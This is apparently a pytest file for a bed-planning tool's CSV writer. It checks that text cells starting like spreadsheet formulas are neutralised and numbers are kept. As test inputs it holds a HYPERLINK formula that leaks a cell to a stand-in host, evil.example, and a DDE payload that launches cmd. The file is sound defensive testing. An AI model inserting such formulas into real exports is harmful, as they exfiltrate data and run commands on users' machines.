"""Every CSV we write defuses formulas in text cells and leaves numbers alone (no database)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from io import StringIO
from pathlib import Path

import numpy as np
import pytest
from django.core.management import call_command

from flotilla import csvsafe
from flotilla.csvsafe import Numeral, neutralise
from flotilla.planning.core.io import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the bed state")'


def written(*rows: list[object]) -> list[list[str]]:
    out = io.StringIO()
    csvsafe.writer(out).writerows(rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_a_hyperlink_formula_in_a_text_comes_out_as_text():
    assert written(["RN1", HYPERLINK]) == [["RN1", "'" + HYPERLINK]]


def test_text_that_only_looks_like_a_negative_number_is_still_text():
    # Decided by type: a reported text "-5" is text, and text starting with "-" is defused.
    assert written(["-5"]) == [["'-5"]]


def test_negative_numbers_written_by_us_stay_numbers():
    row = [-5, -2.5, Decimal("-1.25"), np.float64(-0.5), np.int64(-3), Numeral(-7.0)]
    assert written(row) == [["-5", "-2.5", "-1.25", "-0.5", "-3", "-7"]]


def test_ordinary_text_and_empty_cells_are_written_as_they_are():
    assert written(["Busy night", "", None, "a=b", " =1"]) == [["Busy night", "", "", "a=b", " =1"]]


def test_other_values_are_written_as_text_and_defused_the_same_way():
    class Formula:
        def __str__(self) -> str:
            return "=1+1"

    assert neutralise(Formula()) == "'=1+1"
    assert neutralise(Path("notes.txt")) == "notes.txt"


def test_a_numeral_keeps_the_format_it_was_given():
    assert Numeral(0.923456789) == "0.923457"
    assert Numeral(2, ".3f") == "2.000"
    assert Numeral(Decimal("-0.50")) == "-0.50"


def test_a_numeral_cannot_be_made_from_text():
    with pytest.raises(TypeError, match="needs a number, not str"):
        Numeral("=1+1")  # type: ignore[arg-type]


def test_the_writer_passes_its_options_to_the_csv_module():
    out = io.StringIO()
    csvsafe.writer(out, delimiter=";").writerow(["a", "=b"])
    assert out.getvalue() == "a;'=b\r\n"


def test_the_planning_writer_defuses_site_ids_and_keeps_figures(tmp_path: Path):
    path = tmp_path / "out" / "plan.csv"
    write_csv(path, ("site", "value"), iter([("=cmd|' /C calc'!A0", Numeral(-0.0, ".3f"))]))
    with path.open(newline="") as handle:
        assert list(csv.reader(handle)) == [["site", "value"], ["'=cmd|' /C calc'!A0", "-0.000"]]


def test_a_plan_names_sites_from_the_file_as_text_and_its_figures_as_numbers(tmp_path: Path):
    sites = (
        "site_id,lat,lon,bed_type,open_beds,occupied,safe_occupancy\n"
        f'"{HYPERLINK.replace(chr(34), chr(34) * 2)}",51.50,-0.10,ga,100,110,0.92\n'
        "-B,51.55,-0.12,ga,100,70,0.92\n"
    )
    (tmp_path / "sites.csv").write_text(sites)
    out = tmp_path / "t.csv"
    call_command("plan", sites=tmp_path / "sites.csv", radius_km=60, out=out, stdout=StringIO())
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["from_site"], r["to_site"], r["patients"]) for r in rows] == [
        ("'" + HYPERLINK, "'-B", "18")
    ]
    assert float(rows[0]["distance_km"]) > 0


def test_a_forecast_names_sites_from_the_file_as_text_and_its_figures_as_numbers(tmp_path):
    lines = ["site,measure,date,value"] + [
        f"@A,ga,2021-01-{d:02d},{100 + d % 7}" for d in range(1, 29)
    ]
    (tmp_path / "h.csv").write_text("\n".join(lines) + "\n")
    out = tmp_path / "f.csv"
    call_command(
        "forecast",
        history=tmp_path / "h.csv",
        horizon=1,
        out=out,
        stdout=StringIO(),
        stderr=StringIO(),
    )
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {r["site"] for r in rows} == {"'@A"}
    assert all(float(r["value"]) >= 0 and float(r["quantile"]) > 0 for r in rows)
